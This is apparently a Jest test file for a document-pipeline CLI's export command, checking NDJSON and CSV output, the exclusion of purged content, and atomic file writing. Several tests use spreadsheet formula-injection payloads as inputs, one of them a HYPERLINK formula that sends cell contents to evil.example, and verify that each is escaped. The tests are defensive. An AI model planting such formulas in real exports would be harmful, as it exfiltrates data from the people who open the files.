import * as fs from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { docpipe, FakeParameters } from './docpipe';
import { DocumentRecord } from '../../src/contract/document-record';
import { DocumentStatus } from '../../src/contract/document-status';
import { listingKeys, resultKeysOf } from '../helpers/cli-records';
import { fakeClock } from '../helpers/clock';
import { fakeAws } from '../helpers/fake-aws';
import { DOCUMENT_ID, validatedRecord } from '../helpers/records';

const aws = fakeAws();
fakeClock();
const parameters = new FakeParameters(() => aws);
let folder: string;
beforeEach(async () => {
  parameters.put('invoices');
  folder = await fs.mkdtemp(path.join(tmpdir(), 'export-'));
});
afterEach(async () => fs.rm(folder, { recursive: true }));

function put(n: number, change: Partial<DocumentRecord> = {}): string {
  const documentId = change.documentId ?? n.toString(16).padStart(32, '0');
  const { status = DocumentStatus.FAILED, fileName = `${n}.pdf` } = change;
  const createdAt = new Date(Date.parse('2029-06-01T00:00:00.000Z') + n * 60_000).toISOString();
  const keys = listingKeys({ documentId, status, createdAt, fileName });
  aws.table.put(validatedRecord({ documentId, createdAt, fileName, ...keys, dueKey: undefined, dueAt: undefined, ...change, status }));
  return documentId;
}

const lines = (text: string) => text.trimEnd().split('\n').map((line) => JSON.parse(line));

function withResult(): void {
  put(1, { documentId: DOCUMENT_ID, status: DocumentStatus.SUCCEEDED, resultAttempt: 1, resultKey: resultKeysOf(1).document });
  aws.bucket.put(resultKeysOf(1).document, '{\n  "pages": [ "a\\nb" ]\n}');
  aws.bucket.put(resultKeysOf(1).text, 'said "yes",\nand é');
}

test('every record is a line, however many there are, and a filter chooses', async () => {
  const all = Array.from({ length: 230 }, (_, n) => put(n)).reverse();
  put(500, { status: DocumentStatus.SUCCEEDED });
  const { stdout, code } = await docpipe(['export', '--status', 'FAILED']);
  expect(code).toBe(0);
  expect(lines(stdout).map(({ documentId }) => documentId)).toEqual(all);
});

test('a result is in the line of its document, whole', async () => {
  withResult();
  put(2);
  const [failed, succeeded] = lines((await docpipe(['export', '--results'])).stdout);
  expect(succeeded).toMatchObject({ documentId: DOCUMENT_ID, result: { pages: ['a\nb'] } });
  expect(failed).not.toHaveProperty('result');
});

test('CSV has a header, quotes what needs it, and has no formula', async () => {
  withResult();
  put(2, { fileName: '=HYPERLINK("http://x")', labels: { a: 'b' } });
  const { stdout } = await docpipe(['export', '--format', 'csv', '--results']);
  const [header, formula, ...rest] = stdout.split('\r\n');
  expect(header).toMatch(/^documentId,status,fileName,.*,labels,text$/);
  expect(formula).toContain(',"\'=HYPERLINK(""http://x"")",');
  expect(formula).toContain(',"{""a"":""b""}",""');
  expect(rest[0]).toMatch(/,"said ""yes"",\nand é"$/);
});

test.each([[' =1+1|x.pdf'], ['＝cmd.pdf'], ['@SUM(A1)'], ['\u00a0-2+3'], ['＋cmd']])('a name such as %j is no formula in CSV', async (fileName) => {
  put(1, { fileName, labels: { '=1': '=1' } });
  const { stdout } = await docpipe(['export', '--format', 'csv']);
  expect(stdout.split('\r\n')[1].split(',')[2]).toBe(`'${fileName}`);
});

test.each<[string, string]>([
  ['=HYPERLINK("http://evil.example/?"&A1,"Total")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""Total"")"'],
  ['\n  =1+1', '"\'\n  =1+1"'],
  ['＠SUM(A1)', '"\'＠SUM(A1)"'],
  ['-12.50', '"-12.50"'],
  ['Total = 5', '"Total = 5"'],
  [`${' '.repeat(200_000)}=1+1`, `"'${' '.repeat(200_000)}=1+1"`],
  [`-${' '.repeat(200_000)}1+1`, `"'-${' '.repeat(200_000)}1+1"`],
  ['', '""'],
])('what was read is no formula in CSV: %#', async (text, cell) => {
  withResult();
  aws.bucket.put(resultKeysOf(1).text, text);
  const { stdout, code } = await docpipe(['export', '--format', 'csv', '--results']);
  expect([code, stdout.endsWith(`,${cell}\r\n`)]).toEqual([0, true]);
});

test.each(['ndjson', 'csv'])('%s has no result of a document whose purge broke off', async (format) => {
  put(1, {
    documentId: DOCUMENT_ID,
    status: DocumentStatus.SUCCEEDED,
    resultAttempt: 1,
    resultKey: resultKeysOf(1).document,
    fileName: 'secret.pdf',
    deletedAt: '2029-12-31T00:00:00.000Z',
    purgedAt: '2029-12-31T00:00:00.000Z',
  });
  aws.bucket.put(resultKeysOf(1).document, '{"text": "secret"}');
  aws.bucket.put(resultKeysOf(1).text, 'secret');
  const { stdout, code } = await docpipe(['export', '--format', format, '--results', '--deleted']);
  expect([code, stdout]).toEqual([0, expect.stringContaining(DOCUMENT_ID)]);
  expect(stdout).not.toContain('secret');
});

test('what a line lacks is told', async () => {
  withResult();
  aws.bucket.delete(resultKeysOf(1).text);
  const { code, stderr } = await docpipe(['export', '--format', 'csv', '--results']);
  expect(code).toBe(3);
  expect(stderr).toBe('Of 1 document the result is not in its line, since the file is not there: results.formats leaves it out, or retention removed it.\n');
});

test('a file has its name when it is whole, and nothing is left where it breaks off', async () => {
  Array.from({ length: 150 }, (_, n) => put(n));
  const output = path.join(folder, 'all.ndjson');
  aws.failOnce('QueryCommand', Object.assign(new Error('connect ECONNRESET'), { code: 'ECONNRESET' }));
  expect((await docpipe(['export', '--output', output])).code).toBe(1);
  expect(await fs.readdir(folder)).toEqual([]);
  expect(await docpipe(['export', '--output', output])).toMatchObject({ code: 0, stdout: '', stderr: `150 documents are in ${output}.\n` });
  expect(lines(await fs.readFile(output, 'utf8'))).toHaveLength(150);
  expect(await fs.readdir(folder)).toEqual(['all.ndjson']);
});

test('a file that cannot be written, and --json, are told at once', async () => {
  expect(await docpipe(['export', '--output', path.join(folder, 'no', 'x')])).toMatchObject({ code: 1, stderr: expect.stringContaining('cannot be written') });
  expect(await docpipe(['export', '--json'])).toMatchObject({ code: 2, stderr: expect.stringContaining('leave --json out') });
});
